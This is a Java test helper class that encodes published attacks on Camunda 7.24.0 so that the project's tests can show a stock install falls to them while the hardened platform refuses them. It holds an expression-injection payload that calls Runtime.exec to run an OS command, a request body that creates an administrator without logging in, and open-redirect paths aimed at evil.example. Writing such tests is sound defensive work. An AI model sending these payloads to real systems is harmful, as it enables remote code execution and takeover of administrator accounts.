package pa.gob.tramites.proceso.web;

import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;

import org.camunda.bpm.engine.rest.dto.task.TaskQueryDto;

import org.springframework.util.StringUtils;

/**
 * The published attacks on 7.24.0, as requests. {@link AtaquesDeFabricaTest} sees them
 * succeed on a stock application, {@link AtaquesPublicadosTest} and
 * {@link AplicacionesCerradasTest} see the very same ones refused by the platform.
 */
final class Ataques {

	/** The engine's second REST API. */
	static final String MOTOR_DE_APLICACIONES = "/camunda/api/engine/engine/default";

	/** Creates an administrator while nobody is one (CVE-2026-77226). */
	static final String CREAR_ADMINISTRADOR = "/camunda/api/admin/setup/default/user/create";

	/** Its body. */
	static final String INTRUSO = """
			{"profile":{"id":"intruso","firstName":"I","lastName":"I","email":"i@ejemplo.test"},
			"credentials":{"password":"Clave-larga-2026!"}}""";

	private Ataques() {
	}

	/**
	 * The criteria of a task query that take an expression, by reflection on the engine's
	 * own class.
	 * @return names of JSON fields
	 */
	static List<String> expresiones() {
		return Arrays.stream(TaskQueryDto.class.getMethods())
			.map((metodo) -> metodo.getName())
			.filter((nombre) -> nombre.startsWith("set") && nombre.endsWith("Expression"))
			.map((nombre) -> StringUtils.uncapitalize(nombre.substring(3)))
			.distinct()
			.toList();
	}

	/**
	 * A task query whose alternative runs a command of the operating system
	 * (CVE-2026-109432).
	 * @param atributo the criterion that carries it
	 * @param marca the file that it creates
	 * @return the body
	 */
	static String consulta(String atributo, Path marca) {
		return "{\"orQueries\":[{\"%s\":\"%s\"}]}".formatted(atributo, orden(marca));
	}

	/**
	 * The same without alternatives, which stock refuses too.
	 * @param atributo the criterion that carries it
	 * @param marca the file that it creates
	 * @return the body
	 */
	static String consultaLlana(String atributo, Path marca) {
		return "{\"%s\":\"%s\"}".formatted(atributo, orden(marca));
	}

	/**
	 * A stored filter with a query.
	 * @param nombre its name
	 * @param consulta its query
	 * @return the body
	 */
	static String filtro(String nombre, String consulta) {
		return "{\"resourceType\":\"Task\",\"name\":\"" + nombre + "\",\"query\":" + consulta + "}";
	}

	private static String orden(Path marca) {
		String runtime = "''.getClass().forName('java.lang.Runtime')";
		return "${" + runtime + ".getMethod('exec', ''.getClass()).invoke(" + runtime
				+ ".getMethod('getRuntime').invoke(null), 'touch " + marca + "')}";
	}

	/**
	 * Addresses under the webapps' API that no stock rule allows, which stock
	 * nevertheless lets anonymous callers reach.
	 * @return paths
	 */
	static Stream<String> direccionesSinRegla() {
		return Stream.of("/camunda/api/desconocida", "/camunda/api/", "/camunda/api/welcome/x",
				"/camunda/api/engine/otra", "/camunda/api/cockpit/plugin/tramites/x", "/camunda/api/tasklist/x",
				"/camunda/api/admin/x");
	}

	/**
	 * Addresses that make the stock filter redirect to another site.
	 * @return request targets, to be sent as they are
	 */
	static Stream<String> redirecciones() {
		return Stream.of("//evil.example/camunda/app/tasklist", "//camunda/app/tasklist",
				"//evil.example/%2e%2e/camunda/app/tasklist", "/%5cevil.example/..;/camunda/app/tasklist",
				"/camunda//app/tasklist", "//evil.example/..;/camunda/app/welcome", "///evil.example/../camunda/app");
	}

	/**
	 * Whether a redirection leads away.
	 * @param destino value of {@code Location}, null without one
	 * @return whether the browser would leave this site
	 */
	static boolean seVa(String destino) {
		return destino != null && !destino.startsWith("http://localhost:") && !destino.matches("/camunda/.*");
	}

	/**
	 * Where a request is redirected. Raw sockets: HTTP clients tidy such addresses up
	 * before they send them.
	 * @param puerto port of the application
	 * @param ruta the request's target
	 * @return value of {@code Location}, null without one
	 * @throws IOException when the application does not answer
	 */
	static String destino(int puerto, String ruta) throws IOException {
		return cabeceras(puerto, ruta).stream()
			.filter((una) -> una.toLowerCase(java.util.Locale.ROOT).startsWith("location: "))
			.map((una) -> una.substring("location: ".length()))
			.findFirst()
			.orElse(null);
	}

	/**
	 * The status line and headers of an answer.
	 * @param puerto port of the application
	 * @param ruta the request's target
	 * @return lines
	 * @throws IOException when the application does not answer
	 */
	static List<String> cabeceras(int puerto, String ruta) throws IOException {
		try (Socket enchufe = new Socket("localhost", puerto)) {
			enchufe.getOutputStream()
				.write(("GET " + ruta + " HTTP/1.1\r\nHost: localhost:" + puerto + "\r\nConnection: close\r\n\r\n")
					.getBytes(StandardCharsets.US_ASCII));
			BufferedReader lector = new BufferedReader(
					new InputStreamReader(enchufe.getInputStream(), StandardCharsets.US_ASCII));
			return lector.lines().takeWhile((una) -> !una.isEmpty()).toList();
		}
	}

}
